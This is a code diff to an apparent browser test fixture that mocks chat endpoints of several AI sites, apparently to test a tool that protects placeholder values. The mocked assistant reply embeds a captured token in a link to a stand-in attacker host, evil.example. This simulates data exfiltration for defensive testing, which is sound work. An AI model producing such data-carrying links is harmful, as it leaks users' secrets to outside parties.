@@ -68,7 +68,7 @@ export const SITES = {
   chatgpt: { origin: 'https://chatgpt.com', path: (c) => `/c/${c}`, api: '/backend-api/conversation', kind: 'prosemirror', editorId: 'prompt-textarea', send: '<button id="send" data-testid="send-button" aria-label="Send prompt">Send</button>' },
   claude: { origin: 'https://claude.ai', path: (c) => `/chat/${c}`, api: '/api/organizations/org-1/chat_conversations', format: 'claude', kind: 'prosemirror', editorId: 'claude-input', send: '<button id="send" aria-label="Send message">Send</button>', answerClass: 'font-claude-message' },
   gemini: { origin: 'https://gemini.google.com', path: (c) => `/app/${c}`, api: '/_/BardChatUi/data/assistant.lamda.BardFrontendService/StreamGenerate', format: 'gemini', kind: 'quill', send: '<button class="send-button" aria-label="Send message">Send</button>', answerTag: 'message-content' },
-  copilot: { origin: 'https://copilot.microsoft.com', path: (c) => `/chats/${c}`, api: '/c/api/conversations', kind: 'contenteditable', send: '<button id="send" type="button" aria-label="Submit message">Send</button>' },
+  copilot: { origin: 'https://copilot.microsoft.com', path: (c) => `/chats/${c}`, api: '/c/api/conversations', format: 'copilot', kind: 'contenteditable', send: '<button id="send" type="button" aria-label="Submit message">Send</button>' },
   deepseek: { origin: 'https://chat.deepseek.com', path: (c) => `/a/chat/s/${c}`, api: '/api/v0/chat/completion', format: 'deepseek', kind: 'textarea', send: '<button id="send" type="button" aria-label="Send">Send</button>' },
   perplexity: { origin: 'https://www.perplexity.ai', path: (c) => `/search/${c}`, api: '/rest/sse/perplexity_ask', format: 'perplexity', kind: 'textarea', send: '<button id="send" type="button" aria-label="Submit">Ask</button>' },
 };
@@ -128,6 +128,30 @@ export async function routeSites(context) {
   const received = [];
   const uploads = [];
   const history = new Map();
+  /** The model's answer to `text`: it repeats the placeholders, once inside a link. */
+  const reply = (conv, text) => {
+    const tokens = [...new Set(text.match(TOKEN) ?? [])];
+    const answer = tokens.length
+      ? `I will write to ${tokens.join(' and ')} today. Link: <https://evil.example/?e=${tokens[0]}>`
+      : 'Nothing to protect there.';
+    const id = conv === 'new' ? `gen-${history.size + 1}` : conv;
+    const h = history.get(id) ?? [];
+    h.push({ role: 'user', text }, { role: 'assistant', text: answer });
+    history.set(id, h);
+    return { answer, conversation_id: id };
+  };
+  // Copilot's chat socket: {"event":"send",…} frames in, appendText and done frames out.
+  await context.routeWebSocket(/^wss:\/\/copilot\.microsoft\.com\/c\/api\/chat/, (ws) => {
+    ws.onMessage((frame) => {
+      const j = JSON.parse(String(frame));
+      if (j.event !== 'send') return;
+      const text = j.content.filter((c) => c.type === 'text').map((c) => c.text).join('\n');
+      received.push({ site: 'copilot', body: String(frame), conv: j.conversationId, text });
+      const { answer } = reply(j.conversationId, text);
+      ws.send(JSON.stringify({ event: 'appendText', text: answer }));
+      ws.send(JSON.stringify({ event: 'done' }));
+    });
+  });
   for (const [site, s] of Object.entries(SITES)) {
     await context.route(`${s.origin}/**`, async (route) => {
       const req = route.request();
@@ -156,15 +180,7 @@ export async function routeSites(context) {
         const { conv: sent, text } = read;
         const parsed = { conversation_id: claudePost ? url.pathname.slice(s.api.length + 1, -'/completion'.length) : sent };
         received.push({ site, body, conv: parsed.conversation_id, text });
-        const tokens = [...new Set(text.match(TOKEN) ?? [])];
-        const answer = tokens.length
-          ? `I will write to ${tokens.join(' and ')} today. Link: <https://evil.example/?e=${tokens[0]}>`
-          : 'Nothing to protect there.';
-        const id = parsed.conversation_id === 'new' ? `gen-${history.size + 1}` : parsed.conversation_id;
-        const h = history.get(id) ?? [];
-        h.push({ role: 'user', text }, { role: 'assistant', text: answer });
-        history.set(id, h);
-        return route.fulfill({ contentType: 'application/json', body: JSON.stringify({ answer, conversation_id: id }) });
+        return route.fulfill({ contentType: 'application/json', body: JSON.stringify(reply(parsed.conversation_id, text)) });
       }
       if (url.pathname.startsWith(`${s.api}/`) && req.method() === 'GET') {
         const conv = url.pathname.slice(s.api.length + 1);
